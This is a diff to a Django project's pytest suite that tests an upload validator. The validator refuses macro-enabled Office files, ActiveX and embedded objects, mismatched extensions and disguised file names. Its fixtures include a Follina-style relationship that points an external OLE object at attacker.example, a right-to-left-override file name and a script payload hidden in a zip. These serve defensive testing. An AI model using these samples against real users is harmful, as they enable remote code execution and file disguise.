@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import io
+import struct
 import unicodedata
 import urllib.parse
 import zipfile
@@ -11,6 +12,7 @@ from pathlib import Path
 from typing import Any
 
 import docx
+import openpyxl
 import pytest
 from django.conf import settings as django_settings
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -19,7 +21,7 @@ from PIL import Image
 
 from tests.factories import CriterionFactory, periods, plan_task
 from workflow import services
-from workflow.evidence import safe_name, store
+from workflow.evidence import MACRO_MESSAGE, EvidenceRejected, ole2_entry_names, safe_name, store
 from workflow.models import AuditEvent, Evidence, PeriodTask, Step
 
 PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
@@ -45,6 +47,56 @@ def zip_bytes(entries: dict[str, bytes]) -> bytes:
         for name, data in entries.items():
             archive.writestr(name, data)
     return buffer.getvalue()
+
+
+def xlsx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
+    workbook = openpyxl.Workbook()
+    workbook.active["A1"] = "Số liệu quý I"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return with_parts(buffer.getvalue(), extra or {})
+
+
+def with_parts(package: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
+    """An Office package with parts added (or replaced), as Word or Excel would write them."""
+    replace = replace or {}
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(out, "w") as target:
+        for info in source.infolist():
+            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
+        for name, data in extra.items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+def ole2_bytes(names: list[str], *, storages: tuple[str, ...] = ()) -> bytes:
+    """A minimal, valid compound file (Office 97–2003) whose directory holds ``names`` as
+    streams and ``storages`` as storages: the FAT in sector 0, the directory after it."""
+    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
+    entries = [("Root Entry", 5)] + [(n, 2) for n in names] + [(n, 1) for n in storages]
+    directory = b""
+    for name, kind in entries:
+        encoded = (name + "\x00").encode("utf-16-le")
+        entry = encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
+        entry += struct.pack("<III", free, free, free) + b"\x00" * 36 + struct.pack("<II", end, 0)
+        directory += entry.ljust(128, b"\x00")
+    dir_sectors = max(1, -(-len(directory) // 512))
+    directory = directory.ljust(dir_sectors * 512, b"\x00")
+    fat = [fat_sector] + [n + 1 for n in range(1, dir_sectors)] + [end]
+    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
+    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+    header += b"\x00" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
+    header += struct.pack("<I", 0) + b"\xff" * (4 * 108)
+    assert len(header) == 512
+    return header + fat_bytes + directory
+
+
+def attachment_name(response: Any) -> str:
+    """The file name of a Content-Disposition header, in either of Django's two forms."""
+    header = response["Content-Disposition"]
+    if "filename*=utf-8''" in header:
+        return urllib.parse.unquote(header.split("filename*=utf-8''", 1)[1])
+    return header.split('filename="', 1)[1].rstrip('"')
 
 
 def files_under(root: Path) -> list[Path]:
@@ -91,7 +143,18 @@ def upload(
     [
         ("Báo cáo kết quả quý I.pdf", lambda: PDF, "application/pdf"),
         ("Ảnh chụp hội nghị.png", png_bytes, "image/png"),
-        ("Kế hoạch triển khai.docx", docx_bytes, "application/vnd.openxmlformats-officedocument"),
+        (
+            "Kế hoạch triển khai.docx",
+            docx_bytes,
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        ),
+        (
+            "Số liệu.xlsx",
+            lambda: xlsx_bytes(),
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+        ),
+        ("Công văn cũ.doc", lambda: ole2_bytes(["WordDocument", "1Table"]), "application/msword"),
+        ("Bảng cũ.xls", lambda: ole2_bytes(["Workbook"]), "application/vnd.ms-excel"),
     ],
 )
 def test_assignee_uploads_a_real_file_kept_outside_served_folders_with_its_hash_and_name(
@@ -325,9 +388,9 @@ def test_upload_with_path_and_control_characters_in_its_name_is_stored_under_a_s
         ("..\\..\\Windows\\win.ini\r\n.pdf", "win.ini.pdf"),
         ("báo cáo\u202egpj.exe.pdf", "báo cáogpj.exe.pdf"),
         ("Ba\u0301o ca\u0301o.pdf", "Báo cáo.pdf"),
-        ("/", "tep-dinh-kem"),
-        ("\x00\x01", "tep-dinh-kem"),
-        ("..", "tep-dinh-kem"),
+        ("/", "tep-dinh-kem.pdf"),
+        ("\x00\x01", "tep-dinh-kem.pdf"),
+        ("..", "tep-dinh-kem.pdf"),
     ],
 )
 def test_store_keeps_a_safe_nfc_display_name_whatever_the_raw_name(
@@ -339,7 +402,7 @@ def test_store_keeps_a_safe_nfc_display_name_whatever_the_raw_name(
 
     # Then the display name has no path, no control or format characters, and is NFC
     assert stored.original_name == expected
-    assert safe_name(raw) == expected
+    assert safe_name(raw) == expected.removesuffix(".pdf") or safe_name(raw) == expected
     assert unicodedata.is_normalized("NFC", stored.original_name)
     assert stored.path.read_bytes() == PDF
 
@@ -427,3 +490,311 @@ def test_a_removed_file_no_longer_counts_as_evidence(
     lead_step.refresh_from_db()
     assert lead_step.state == "open"
     assert not Step.objects.filter(kind="partner").exists()
+
+
+# --- the name's extension is the content's type's -------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name", ["Báo cáo.hta", "chay.bat", "trang.html", "cai-dat.exe", "Báo cáo.docm", "anh.jpg"]
+)
+def test_pdf_under_another_types_extension_is_refused_and_leaves_nothing(
+    client: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path, name: str
+) -> None:
+    # Given the assignee and a real PDF named as something else
+    client.force_login(personas["staff"])
+    events = AuditEvent.objects.count()
+
+    # When they attach it
+    response = upload(client, lead_step, name, PDF)
+
+    # Then it is refused, saying which extension the content needs; nothing is left
+    assert response.status_code == 400
+    ext = name.rsplit(".", 1)[1]
+    assert (
+        f"Đuôi tên tệp “.{ext}” không khớp với nội dung tệp (PDF): hãy đặt tên tệp với đuôi .pdf."
+        in response.content.decode()
+    )
+    assert Evidence.objects.count() == 0
+    assert AuditEvent.objects.count() == events
+    assert files_under(evidence_root) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "make", "stored_as"),
+    [
+        ("Báo cáo", lambda: PDF, "Báo cáo.pdf"),
+        ("BAO-CAO.PDF", lambda: PDF, "BAO-CAO.pdf"),
+        ("Ảnh.JPEG", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 40, "Ảnh.jpeg"),
+        ("Bảng số liệu", lambda: xlsx_bytes(), "Bảng số liệu.xlsx"),
+    ],
+)
+def test_stored_and_downloaded_name_ends_with_the_sniffed_types_extension(
+    client: Any, personas: dict[str, Any], lead_step: Step, name: str, make: Any, stored_as: str
+) -> None:
+    # Given a file without an extension, or with its type's in capitals
+    client.force_login(personas["staff"])
+
+    # When it is attached and downloaded
+    assert upload(client, lead_step, name, make()).status_code == 302
+    evidence = Evidence.objects.get(step=lead_step)
+    response = client.get(reverse("workflow:evidence", args=[evidence.pk]))
+
+    # Then its name carries the type's extension, stored and downloaded
+    assert evidence.original_name == stored_as
+    assert attachment_name(response) == stored_as
+
+
+@pytest.mark.parametrize(
+    ("original_name", "content_type", "downloaded"),
+    [
+        ("Báo cáo.hta", "application/pdf", "Báo cáo.hta.pdf"),
+        ("trang.html", "application/pdf", "trang.html.pdf"),
+        ("ke-hoach.docm", "application/vnd.openxmlformats-officedocument", "ke-hoach.docm.docx"),
+        ("so-lieu.xlsx", "application/vnd.openxmlformats-officedocument", "so-lieu.xlsx"),
+        ("cu.DOC", "application/vnd.ms-office", "cu.doc"),
+    ],
+)
+def test_a_row_stored_before_the_check_downloads_under_its_types_extension(
+    client: Any,
+    personas: dict[str, Any],
+    lead_step: Step,
+    original_name: str,
+    content_type: str,
+    downloaded: str,
+) -> None:
+    # Given a row recorded before names were checked, with a dangerous or family-typed name
+    stored = store(io.BytesIO(PDF), name="x.pdf")
+    services.evidence_attach(step_id=lead_step.pk, user=personas["staff"], stored=stored)
+    Evidence.objects.filter(step=lead_step).update(original_name=original_name, content_type=content_type)
+    evidence = Evidence.objects.get(step=lead_step)
+    client.force_login(personas["office_reviewer"])
+
+    # When it is downloaded
+    response = client.get(reverse("workflow:evidence", args=[evidence.pk]))
+
+    # Then the name ends with the type's extension, never the stored one alone
+    assert response.status_code == 200
+    assert attachment_name(response) == downloaded
+
+
+# --- macros and unexpected parts in Office files --------------------------------------------
+
+UNEXPECTED = "Tệp Office chứa thành phần không được chấp nhận"
+FOLLINA_RELS = (
+    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+    b'relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
+    b'2006/relationships/oleObject" Target="http://attacker.example/x.html!" TargetMode="External"/>'
+    b"</Relationships>"
+)
+HYPERLINK_RELS = FOLLINA_RELS.replace(b"/oleObject", b"/hyperlink").replace(b"x.html!", b"trang")
+
+
+def macro_docx() -> bytes:
+    """A .docm as Word writes it: the macro content type and a vbaProject.bin part."""
+    package = docx_bytes()
+    with zipfile.ZipFile(io.BytesIO(package)) as archive:
+        types = archive.read("[Content_Types].xml")
+    types = types.replace(
+        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+        b"application/vnd.ms-word.document.macroEnabled.main+xml",
+    )
+    return with_parts(
+        package,
+        {"word/vbaProject.bin": OLE_VBA, "word/_rels/vbaProject.bin.rels": b"<Relationships/>"},
+        replace={"[Content_Types].xml": types},
+    )
+
+
+OLE_VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100
+
+
+@pytest.mark.parametrize(
+    ("name", "make", "message"),
+    [
+        ("Báo cáo.docm", macro_docx, MACRO_MESSAGE),
+        ("Báo cáo.docx", macro_docx, MACRO_MESSAGE),
+        (
+            "Bảng.xlsm",
+            lambda: xlsx_bytes({"xl/vbaProject.bin": OLE_VBA}),
+            MACRO_MESSAGE,
+        ),
+        (
+            "Bảng.xlsx",
+            lambda: with_parts(docx_bytes(), {"word/vbaData.xml": b"<wne:vbaSuppData/>"}),
+            MACRO_MESSAGE,
+        ),
+        (
+            "ActiveX.docx",
+            lambda: with_parts(
+                docx_bytes(), {"word/activeX/activeX1.xml": b"<ax/>", "word/activeX/activeX1.bin": b"x"}
+            ),
+            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): activeX1.xml.",
+        ),
+        (
+            "Nhung.docx",
+            lambda: with_parts(docx_bytes(), {"word/embeddings/oleObject1.bin": OLE_VBA}),
+            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): oleObject1.bin.",
+        ),
+        (
+            "Chuong-trinh.xlsx",
+            lambda: xlsx_bytes({"xl/embeddings/setup.exe": b"MZ\x90\x00"}),
+            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): setup.exe.",
+        ),
+        (
+            "Lien-ket.docx",
+            lambda: with_parts(docx_bytes(), {}, replace={"word/_rels/document.xml.rels": FOLLINA_RELS}),
+            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): document.xml.rels.",
+        ),
+        (
+            "Macro.doc",
+            lambda: ole2_bytes(["WordDocument", "1Table"], storages=("Macros", "VBA")),
+            MACRO_MESSAGE,
+        ),
+        ("Macro.xls", lambda: ole2_bytes(["Workbook"], storages=("_VBA_PROJECT_CUR",)), MACRO_MESSAGE),
+        (
+            "Goi.doc",
+            lambda: ole2_bytes(["WordDocument", "\x01Ole10Native"], storages=("ObjectPool",)),
+            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): ole10native.",
+        ),
+        (
+            "Thu.doc",
+            lambda: ole2_bytes(["__substg1.0_0037001F"]),
+            "Tệp Office 97–2003 không nhận ra được (chỉ nhận .doc, .xls, .ppt).",
+        ),
+        (
+            "Hong.doc",
+            lambda: ole2_bytes(["WordDocument"])[:600],
+            "Tệp Office 97–2003 bị hỏng hoặc không đọc được.",
+        ),
+        ("Bang.doc", lambda: ole2_bytes(["Workbook"]), "Đuôi tên tệp “.doc” không khớp với nội dung tệp"),
+        (
+            "Bang.docx",
+            lambda: xlsx_bytes(),
+            "Đuôi tên tệp “.docx” không khớp với nội dung tệp (bảng tính Excel)",
+        ),
+        (
+            "ho-so.zip",
+            lambda: zip_bytes({"bao-cao.pdf": b"<html><script>alert(1)</script></html>"}),
+            "Tệp nén chứa tệp có nội dung không khớp đuôi tên: bao-cao.pdf.",
+        ),
+    ],
+    ids=[
+        "docm",
+        "docm-named-docx",
+        "xlsm",
+        "vba-data",
+        "activex",
+        "ole-object",
+        "embedded-exe",
+        "external-ole-link",
+        "doc-macros",
+        "xls-macros",
+        "doc-ole-package",
+        "ole2-not-office",
+        "ole2-truncated",
+        "xls-named-doc",
+        "xlsx-named-docx",
+        "zip-entry-not-its-type",
+    ],
+)
+def test_macro_enabled_or_unexpected_office_file_is_refused_and_leaves_nothing(
+    client: Any,
+    personas: dict[str, Any],
+    lead_step: Step,
+    evidence_root: Path,
+    name: str,
+    make: Any,
+    message: str,
+) -> None:
+    # Given the assignee and an Office file with a macro or an unexpected part
+    client.force_login(personas["staff"])
+    events = AuditEvent.objects.count()
+
+    # When they attach it
+    response = upload(client, lead_step, name, make())
+
+    # Then it is refused with a Vietnamese message; no row, no event, no file
+    assert response.status_code == 400
+    assert message in response.content.decode()
+    assert Evidence.objects.count() == 0
+    assert AuditEvent.objects.count() == events
+    assert files_under(evidence_root) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "make"),
+    [
+        (
+            "Có liên kết.docx",
+            lambda: with_parts(docx_bytes(), {}, {"word/_rels/document.xml.rels": HYPERLINK_RELS}),
+        ),
+        (
+            "Biểu đồ.docx",
+            lambda: with_parts(
+                docx_bytes(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes()}
+            ),
+        ),
+        ("In.xlsx", lambda: xlsx_bytes({"xl/printerSettings/printerSettings1.bin": b"\x00" * 64})),
+    ],
+    ids=["hyperlink", "chart-workbook", "printer-settings"],
+)
+def test_ordinary_office_parts_are_accepted(
+    personas: dict[str, Any], lead_step: Step, name: str, make: Any
+) -> None:
+    # Given parts ordinary documents carry: a web link, a chart's workbook, printer settings
+    # When the file is checked and stored
+    stored = store(io.BytesIO(make()), name=name)
+    # Then it is kept under its name
+    assert stored.original_name == name
+
+
+def test_compound_file_directory_is_read_across_several_sectors() -> None:
+    # Given a compound file whose directory spans three sectors
+    names = [f"Stream{n}" for n in range(10)] + ["WordDocument"]
+    # When its directory is read
+    # Then every name is found, in order, after the root
+    assert ole2_entry_names(io.BytesIO(ole2_bytes(names))) == ["Root Entry", *names]
+
+
+def odf_bytes(mimetype: bytes, extra: dict[str, bytes] | None = None) -> bytes:
+    return zip_bytes(
+        {
+            "mimetype": mimetype,
+            "META-INF/manifest.xml": b"<manifest:manifest/>",
+            "content.xml": b"<office:document-content/>",
+            **(extra or {}),
+        }
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "outcome"),
+    [
+        ("Báo cáo.odt", odf_bytes(b"application/vnd.oasis.opendocument.text"), "Báo cáo.odt"),
+        ("Bảng.ods", odf_bytes(b"application/vnd.oasis.opendocument.spreadsheet"), "Bảng.ods"),
+        (
+            "Báo cáo.ods",
+            odf_bytes(b"application/vnd.oasis.opendocument.text"),
+            "Đuôi tên tệp “.ods” không khớp với nội dung tệp (văn bản OpenDocument)",
+        ),
+        (
+            "Macro.odt",
+            odf_bytes(b"application/vnd.oasis.opendocument.text", {"Basic/Standard/Module1.xml": b"<x/>"}),
+            "Tệp OpenDocument có macro không được chấp nhận",
+        ),
+    ],
+    ids=["odt", "ods", "odt-named-ods", "odt-macro"],
+)
+def test_opendocument_files_are_typed_and_macros_refused(
+    evidence_root: Path, name: str, content: bytes, outcome: str
+) -> None:
+    # Given an OpenDocument file (Debian's LibreOffice default)
+    # When it is checked
+    try:
+        result = store(io.BytesIO(content), name=name).original_name
+    except EvidenceRejected as rejected:
+        result = rejected.message
+    # Then it is kept under its type's extension, or refused with the reason; nothing written
+    assert result.startswith(outcome)
+    assert len(files_under(evidence_root)) == (1 if result == name else 0)
